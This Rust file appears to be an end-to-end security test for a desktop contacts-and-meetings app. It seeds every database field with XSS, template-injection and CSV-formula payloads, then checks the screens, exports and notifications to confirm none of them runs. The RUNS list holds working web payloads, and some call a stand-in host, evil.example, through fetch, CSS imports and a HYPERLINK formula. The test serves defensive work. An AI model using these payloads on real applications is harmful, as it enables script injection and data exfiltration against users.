//! Text that would run if anything took it for a page, a formula or markup: in every field that a person, a file or another
//! program can fill, and then on the screens that show it and in what leaves the program. Nothing of it may run, become an
//! element, or even be stopped by the policy.
//!
//! Several are in each field, each with a mark of its own, and the fields have theirs: so that what is seen says which
//! text it is, and of which field.

use anyhow::{Context, Result, ensure};
use rusqlite::{Connection, params_from_iter};
use serde_json::json;

use crate::desktop::Desktop;
use crate::service::Service;
use crate::tray::Tray;
use crate::wait;
use crate::window::Window;

/// What would run. `@` is what it would do, `#` its number, by which it is told on the screen.
const RUNS: [&str; 27] = [
    "<img src=x class=pwn onerror=@>",
    "<svg class=pwn onload=@>",
    "<script class=pwn>@</script>",
    "</script><script>@</script>",
    "<iframe class=pwn srcdoc='<script>parent.@</script>'></iframe>",
    "<a class=pwn href=javascript:@>x</a>",
    "javascript:@",
    "\"><img src=x class=pwn onerror=@>",
    "' class=pwn autofocus onfocus='@",
    "\" class=pwn onmouseover=\"@",
    "<details open class=pwn ontoggle=@>",
    "<video class=pwn><source onerror=@></video>",
    "<style class=pwn>@import'//evil.example/#'</style>",
    "<link rel=stylesheet class=pwn href=//evil.example/#>",
    "<math><mi class=pwn xlink:href=javascript:@>",
    "<object class=pwn data=javascript:@></object>",
    "<form class=pwn action=javascript:@><button autofocus>x",
    "{@html '<img src=x class=pwn onerror=@>'}",
    "{{constructor.constructor('@')()}}",
    "${@}",
    "<!--><img src=x class=pwn onerror=@>-->",
    "<noscript><p title=\"</noscript><img src=x class=pwn onerror=@>\">",
    "<template shadowrootmode=open><img src=x class=pwn onerror=@></template>",
    "<base class=pwn href=//evil.example/>",
    "data:text/html,<script>@</script>",
    "=HYPERLINK(\"//evil.example/#\")",
    "<b>&lt;img src=x class=pwn onerror=@&gt;</b>",
];

/// How it may be dressed.
const DRESSED: [&str; 8] =
    ["*", "Ana * Ruiz", "\u{202e}*", "*\n*", "https://x.example/?*", "[x](*)", "“*”", "&lt;*&gt;"];

/// The text of one number, none like another.
#[must_use]
pub fn payload(number: usize) -> String {
    let act = ["window.__ran(#)", "top.__ran(#)", "alert(#)", "self['__ran'](#)", "fetch('//evil.example/#')"];
    let (run, round) = (RUNS[number % RUNS.len()], number / RUNS.len());
    let dress = DRESSED[round % DRESSED.len()];
    let act = act[round / DRESSED.len() % act.len()];
    let text = dress.replace('*', &run.replace("{@html", "{\u{1}html").replace('@', act).replace('\u{1}', "@"));
    let text = text.replace('#', &number.to_string());
    // What would be followed as an address is so only from its first letter on.
    if round.is_multiple_of(2) { format!("{text} n{number}n") } else { format!("n{number}n {text}") }
}

/// So many stand in each field of one person.
const TOGETHER: usize = 4;

/// The numbers that are in the fields of this person, of so many in all.
fn numbers(person: usize, many: usize) -> impl Iterator<Item = usize> + Clone {
    (1..=many).skip((person - 1) * TOGETHER).take(TOGETHER)
}

/// How many people so many need.
#[must_use]
pub fn people(many: usize) -> usize {
    many.div_ceil(TOGETHER)
}

/// What is in one field of a person: in each field another comes first.
fn text(person: usize, field: usize, many: usize) -> String {
    let mut all: Vec<String> = numbers(person, many).map(payload).collect();
    let first = field % all.len().max(1);
    all.rotate_left(first);
    format!("{} f{field}f", all.join(" "))
}

/// A row of each kind for person `?1`. A field in brackets, as the schema names it, stands for the text that is in it.
const ROWS: [&str; 28] = [
    "INSERT INTO company (id, uid, name, name_key, created_at)
     VALUES (?1, 'o' || ?1, [company.name], 'k' || ?1, '2026-01-01T00:00:00Z')",
    "INSERT INTO contact (id, uid, name, given_name, family_name, name_title, nickname, credentials, name_key, sort_key,
       linkedin_url, linkedin_key, location, found_where, salutation, pronoun, about, created_at, changed_at)
     VALUES (?1, 'c' || ?1, [contact.name], [contact.given_name], [contact.family_name], [contact.name_title],
       [contact.nickname], [contact.credentials], 'k' || ?1, 'k' || ?1, [contact.linkedin_url], 'in/' || [contact.linkedin_key],
       [contact.location],
       [contact.found_where], [contact.salutation], [contact.pronoun], [contact.about],
       '2026-01-01T00:00:00Z', '2026-01-01T00:00:00Z')",
    "INSERT INTO contact_email (contact_id, address, address_key) VALUES (?1, [contact_email.address], 'k' || ?1)",
    "INSERT INTO contact_phone (contact_id, number, number_key, label)
     VALUES (?1, [contact_phone.number], 'k' || ?1, [contact_phone.label])",
    "INSERT INTO employment (contact_id, company_id, title, department)
     VALUES (?1, ?1, [employment.title], [employment.department])",
    "INSERT INTO tag (id, name, name_key) VALUES (?1, [tag.name], 'k' || ?1)",
    "INSERT INTO contact_tag (contact_id, tag_id) VALUES (?1, ?1)",
    "INSERT INTO meeting (id, uid, place, aim, give, starts_at, ended_at, zone, state, created_at, changed_at)
     VALUES (?1, 'm' || ?1, [meeting.place], [meeting.aim], [meeting.give],
       strftime('%Y-%m-%dT%H:%M:%SZ', 'now', '-100 minutes'), strftime('%Y-%m-%dT%H:%M:%SZ', 'now', '-70 minutes'),
       'Europe/Berlin', 'held', '2026-01-01T00:00:00Z', '2026-01-01T00:00:00Z')",
    "INSERT INTO meeting_contact (meeting_id, contact_id) VALUES (?1, ?1)",
    "INSERT INTO note (uid, meeting_id, kind, wording, noted_at, changed_at)
     SELECT 'n' || ?1 || value, ?1, value, [note.wording], '2026-01-01T10:00:00Z', '2026-01-01T10:00:00Z'
     FROM json_each('[\"plain\", \"rocks\", \"sucks\", \"surprise\", \"skill\", \"advice\", \"quote\", \"resource\",
                      \"about_them\", \"ask_back\", \"opening\", \"moment\"]')",
    "INSERT INTO question (uid, meeting_id, wording, created_at, changed_at)
     VALUES ('q' || ?1, ?1, [question.wording], '2026-01-01T00:00:00Z', '2026-01-01T00:00:00Z')",
    "INSERT INTO promise (uid, contact_id, meeting_id, whose, wording, due_on, made_at, changed_at)
     VALUES ('p' || ?1, ?1, ?1, 'mine', [promise.wording], '2026-01-02', '2026-01-01T00:00:00Z', '2026-01-01T00:00:00Z')",
    // Some are settled, and say why.
    "INSERT INTO thank_you (id, uid, meeting_id, contact_id, reason, state, settled_at, changed_at)
     VALUES (?1, 't' || ?1, ?1, ?1, [thank_you.reason], iif(?1 % 3 = 0, 'not_needed', 'open'),
       iif(?1 % 3 = 0, '2026-01-02T00:00:00Z', NULL), '2026-01-01T00:00:00Z')",
    "INSERT INTO letter (uid, occasion, contact_id, meeting_id, channel, recipient, subject, body, changed_at)
     VALUES ('l' || ?1, 'thank_you', ?1, ?1, 'email', [letter.recipient], [letter.subject], [letter.body],
       '2026-01-01T00:00:00Z')",
    "INSERT INTO import (id, uid, kind, file_name, file_sha256, header, imported_at, rows, added, updated, unchanged, skipped)
     VALUES (?1, 'i' || ?1, 'linkedin_connections', [import.file_name], 'x', json_array([import.header]),
       '2026-01-01T00:00:00Z', 1, 0, 0, 0, 1)",
    "INSERT INTO import_row (import_id, line, outcome, reason, detail)
     VALUES (?1, 2, 'skipped', 'no_name', json_array([import_row.detail]))",
    "INSERT INTO research (uid, meeting_id, wording, source, created_at, changed_at)
     VALUES ('r' || ?1, ?1, [research.wording], [research.source], '2026-01-01T00:00:00Z', '2026-01-01T00:00:00Z')",
    "INSERT INTO path (id, uid, name, name_key, created_at, changed_at)
     VALUES (?1, 'a' || ?1, [path.name], 'k' || ?1, '2026-01-01T00:00:00Z', '2026-01-01T00:00:00Z')",
    "INSERT INTO meeting_path (uid, meeting_id, path_id, wording, changed_at)
     VALUES ('w' || ?1, ?1, ?1, [meeting_path.wording], '2026-01-01T00:00:00Z')",
    "INSERT INTO bank_question (uid, wording, created_at, changed_at)
     VALUES ('b' || ?1, [bank_question.wording], '2026-01-01T00:00:00Z', '2026-01-01T00:00:00Z')",
    "INSERT INTO my_minute (uid, name, wording, position, changed_at)
     VALUES ('u' || ?1, [my_minute.name], [my_minute.wording], ?1, '2026-01-01T00:00:00Z')",
    "INSERT INTO my_station (uid, kind, name, name_key, what, position, changed_at)
     VALUES ('s' || ?1, 'school', [my_station.name], 'k' || ?1, [my_station.what], ?1, '2026-01-01T00:00:00Z')",
    "INSERT INTO contact_school (contact_id, name, name_key, degree)
     VALUES (?1, [contact_school.name], 'k' || ?1, [contact_school.degree])",
    "INSERT INTO introduction (uid, from_id, name, about, meeting_id, named_at, state_at, changed_at)
     VALUES ('d' || ?1, ?1, [introduction.name], [introduction.about], ?1, '2026-01-01T00:00:00Z', '2026-01-01T00:00:00Z',
       '2026-01-01T00:00:00Z')",
    "INSERT INTO attachment (uid, meeting_id, file_name, sha256, bytes, added_at, changed_at)
     VALUES ('f' || ?1, ?1, [attachment.file_name], 'x', 1, '2026-01-01T00:00:00Z', '2026-01-01T00:00:00Z')",
    "INSERT INTO travel (uid, place, place_key, minutes, changed_at)
     VALUES ('v' || ?1, [travel.place], 'k' || ?1, 20, '2026-01-01T00:00:00Z')",
    "INSERT INTO draft (place, wording, changed_at)
     VALUES ('meeting/' || ?1 || '/line', [draft.wording], '2026-01-01T00:00:00Z')",
    // Of these there is one: it ends as the last person's.
    "INSERT OR REPLACE INTO letter_template (id, uid, occasion, language, tone, wording, changed_at)
     VALUES (1, 'x', 'thank_you', 'en', 'brief', [letter_template.wording], '2026-01-01T00:00:00Z')",
];

/// Every field that is filled, as the schema names it; the mark of a field is its place here.
#[must_use]
pub fn fields() -> Vec<&'static str> {
    ROWS.iter()
        .flat_map(|sql| sql.split('[').skip(1).filter_map(|rest| rest.split(']').next()))
        .filter(|field| field.contains('.'))
        .collect()
}

/// What is kept and on no screen as it is: the parts that a name is sorted and addressed by, what a left-out row was like,
/// which goes into a file, an address that the key beside it stands for, and the place that a way is remembered by.
const BEHIND: [&str; 6] = [
    "contact.family_name",
    "contact.name_title",
    "contact.linkedin_url",
    "import.header",
    "import_row.detail",
    "travel.place",
];

/// Fills the data with people, each with a meeting and all that belongs to one, so that each of `many` texts is in every
/// field.
///
/// # Errors
/// When a field is not there any more.
pub fn fill(desktop: &Desktop, many: usize) -> Result<()> {
    ensure!(desktop.confab(&["due"]).output()?.status.success(), "the data can be made");
    let fields = fields();
    let mut conn = Connection::open(desktop.data().join("confab.db"))?;
    let tx = conn.transaction()?;
    for person in 1..=people(many) {
        for sql in ROWS {
            let (mut sql, mut values) = (sql.to_owned(), vec![person.to_string()]);
            for (place, field) in fields.iter().enumerate() {
                let name = format!("[{field}]");
                if sql.contains(&name) {
                    values.push(text(person, place, many));
                    sql = sql.replace(&name, &format!("?{}", values.len()));
                }
            }
            tx.prepare_cached(&sql)?.execute(params_from_iter(values)).with_context(|| sql.clone())?;
        }
    }
    Ok(tx.commit()?)
}

/// What was seen.
#[derive(Debug, Default)]
pub struct Seen {
    pub screens: usize,
    /// Screens on which all that was to be read there was to be read.
    pub shown: usize,
    pub ran: usize,
    pub reported: usize,
    pub elements: usize,
    /// Screens on which something was not to be read.
    pub missed: Vec<String>,
    /// Fields that no screen showed.
    pub unseen: Vec<&'static str>,
}

/// Goes over every screen that shows one of the people with `many` texts, and over those that show all.
///
/// # Errors
/// When the window is gone.
pub fn walk(window: &Window, many: usize) -> Result<Seen> {
    window.script(
        "window.__seen = { ran: 0, reported: 0, elements: 0, screens: 0, shown: 0, fields: {} };
         const ran = () => { window.__seen.ran += 1; };
         for (const name of ['__ran', 'alert', 'confirm', 'prompt']) window[name] = ran;
         document.addEventListener('securitypolicyviolation', () => { window.__seen.reported += 1; });
         return true",
    )?;
    let mut steps = Vec::new();
    // These show everything at once, or some of it.
    let all: Vec<String> = (1..=many).map(|number| format!("n{number}n")).collect();
    let some = [String::from("n")];
    let last: Vec<String> = numbers(people(many), many).map(|number| format!("n{number}n")).collect();
    for (address, keys, marks) in [
        ("today", "", &some[..]),
        ("people", "", &some),
        ("meetings", "", &some),
        ("import", "", &some),
        ("me", "", &all),
        ("me/letters", "", &[]),
        ("me/letters/thank_you/en/brief", "", &last),
        ("meeting/1/prepare", "b", &all),
    ] {
        steps.push(json!({ "address": address, "keys": keys, "marks": marks }));
    }
    for person in 1..=people(many) {
        let marks: Vec<String> = numbers(person, many).map(|number| format!("n{number}n")).collect();
        for (screen, face, keys) in [
            ("people", "", ""),
            ("people", "", "e"),
            ("people", "", "mod+k"),
            ("meeting", "/prepare", ""),
            ("meeting", "/prepare", "e"),
            ("meeting", "/meet", ""),
            ("meeting", "/wrap-up", ""),
            ("thank-you", "", ""),
            ("import", "", ""),
        ] {
            steps.push(json!({ "address": format!("{screen}/{person}{face}"), "keys": keys, "marks": marks }));
        }
    }
    // In parcels: a script may not take longer than the driver waits.
    for parcel in steps.chunks(20) {
        // What ends the page's process ends the script as well.
        let there = || parcel.iter().map(|step| format!("{} {}", step["address"], step["keys"])).collect::<Vec<_>>();
        let walked = window.script_waiting(WALK, vec![json!(parcel)]);
        walked.with_context(|| format!("the page did not come back from one of {}", there().join(", ")))?;
    }
    let seen = window.script("return window.__seen")?;
    let count = |key: &str| usize::try_from(seen[key].as_u64().unwrap_or(u64::MAX)).unwrap_or(usize::MAX);
    let unseen = fields()
        .into_iter()
        .enumerate()
        .filter(|(place, field)| !BEHIND.contains(field) && seen["fields"].get(place.to_string()).is_none());
    Ok(Seen {
        screens: count("screens"),
        shown: count("shown"),
        ran: count("ran"),
        reported: count("reported"),
        elements: count("elements"),
        unseen: unseen.map(|(_, field)| field).collect(),
        missed: seen["missed"]
            .as_array()
            .into_iter()
            .flatten()
            .filter_map(|at| Some(at.as_str()?.to_owned()))
            .collect(),
    })
}

/// Goes to each address, presses the keys there, and looks until all the marks are to be read.
const WALK: &str = r#"
    const [steps, done] = arguments;
    const seen = window.__seen;
    const moment = (ms) => new Promise((on) => setTimeout(on, ms));
    const within = (part) => {
      if (!part) return '';
      const fields = [...part.querySelectorAll('input, textarea')].map((field) => field.value).join(' ');
      return part.innerText + ' ' + fields;
    };
    const read = () => within(document.body);
    const press = (key, more = {}) =>
      (document.activeElement ?? document.body).dispatchEvent(new KeyboardEvent('keydown', { key, bubbles: true, cancelable: true, ...more }));
    const go = async () => {
      for (const { address, keys, marks } of steps) {
        // What shows a thousand takes its time.
        const most = marks.length > 4 ? 2000 : 100;
        const looking = async (is) => {
          for (let look = 0; look < most; look += 1) {
            if (is(look)) return true;
            await moment(15);
          }
          return false;
        };
        if (location.hash !== '#/' + address) location.hash = '#/' + address;
        let text = '';
        // What the keys open shows them; before that, it is enough that it is the screen.
        const shows = () => ((text = read()), keys === '' ? marks.every((mark) => text.includes(mark)) : text.includes(marks[0]));
        let is_shown = await looking(shows);
        const box = () =>
          document.querySelector('[role=dialog]') ?? document.querySelector('[aria-label="Search the bank"]')?.parentElement ??
          document.querySelector('article form:has(fieldset)');
        if (keys !== '') {
          document.activeElement?.blur();
          const [key] = keys.split('+').slice(-1);
          // Again where it was pressed before the screen listened.
          const opens = (look) => {
            if (box() === null && look % 20 === 0) press(key, keys.startsWith('mod') ? { ctrlKey: true } : {});
            return box() !== null;
          };
          is_shown &&= await looking(opens);
          if (key === 'k') {
            const field = document.querySelector('[role=dialog] input');
            if (field) field.value = marks[0];
            field?.dispatchEvent(new Event('input', { bubbles: true }));
          }
          const inside = () => ((text = within(box())), marks.every((mark) => text.includes(mark)));
          is_shown &&= await looking(inside);
        }
        // A screen comes in pieces; and what would run does so in a moment of its own.
        const of = () => (keys === '' ? read() : within(box()));
        for (let before = '', look = 0; before !== text && look < 20; look += 1) {
          before = text;
          await moment(25);
          text = of();
        }
        seen.screens += 1;
        seen.shown += is_shown ? 1 : 0;
        if (!is_shown) (seen.missed ??= []).push(address + ' ' + keys);
        for (const [, field] of text.matchAll(/f(\d+)f/g)) seen.fields[field] = true;
        seen.elements += document.querySelectorAll(
          '.pwn, iframe, object, embed, base, script:not([src]):not([type="application/json"])').length;
        if (keys !== '') {
          press('Escape');
          await looking(() => box() === null);
        }
      }
      done(true);
    };
    go();"#;

/// What left the program.
#[derive(Debug, Default)]
pub struct Left {
    /// Cells of the export for spreadsheets, and how many of them one would run.
    pub cells: usize,
    pub formulas: usize,
    /// Numbers that are in none of the exports' texts.
    pub missing: usize,
    /// Notifications with something of it, and how many of them have markup in their text.
    pub notices: usize,
    pub marked_up: usize,
}

/// Has the program write both of its exports, and say what is due.
///
/// # Errors
/// When it cannot, or says nothing.
pub fn leave(desktop: &Desktop, many: usize) -> Result<Left> {
    let mut left = Left::default();
    let export = |format: &str| -> Result<String> {
        let output = desktop.confab(&["export", "--format", format]).output()?;
        ensure!(output.status.success(), "the export fails: {}", String::from_utf8_lossy(&output.stderr));
        Ok(String::from_utf8(output.stdout)?)
    };
    let (table, whole) = (export("csv")?, export("json")?);
    let kept = |text: &str| (1..=many).filter(|number| !text.contains(&format!("n{number}n"))).count();
    left.missing = kept(&table) + kept(&whole);
    for cell in cells(table.trim_start_matches('\u{feff}')) {
        left.cells += 1;
        left.formulas += usize::from(cell.starts_with(['=', '+', '-', '@', '\t', '\r', '＝', '＋', '－', '＠']));
    }

    let service = Service::start(desktop)?;
    let tray = Tray::start(desktop)?;
    desktop.spawn_command(&mut desktop.confab(&["--hidden"]))?;
    tray.item()?;
    let said = wait::until("what is due to be said", || {
        let said = service.shown();
        Ok(said.iter().any(|notice| is_marked(&notice.summary) || is_marked(&notice.body)).then_some(said))
    })?;
    left.notices = said.iter().filter(|notice| is_marked(&notice.summary) || is_marked(&notice.body)).count();
    left.marked_up = said.iter().filter(|notice| notice.body.contains('<')).count();
    desktop.kill_program()?;
    service.stop()?;
    Ok(left)
}

/// Whether the mark of a number is in it.
fn is_marked(text: &str) -> bool {
    text.split(|c: char| !c.is_ascii_alphanumeric()).any(|word| {
        let number = word.strip_prefix('n').and_then(|word| word.strip_suffix('n'));
        number.is_some_and(|number| number.parse::<usize>().is_ok())
    })
}

/// The cells of a CSV, as a spreadsheet takes them apart.
fn cells(text: &str) -> Vec<String> {
    let (mut cells, mut cell, mut is_quoted) = (Vec::new(), String::new(), false);
    let mut letters = text.chars().peekable();
    while let Some(letter) = letters.next() {
        match letter {
            '"' if is_quoted && letters.peek() == Some(&'"') => cell.extend(letters.next()),
            '"' => is_quoted = !is_quoted,
            ',' | '\r' | '\n' if !is_quoted => cells.push(std::mem::take(&mut cell)),
            other => cell.push(other),
        }
    }
    cells.push(cell);
    cells
}
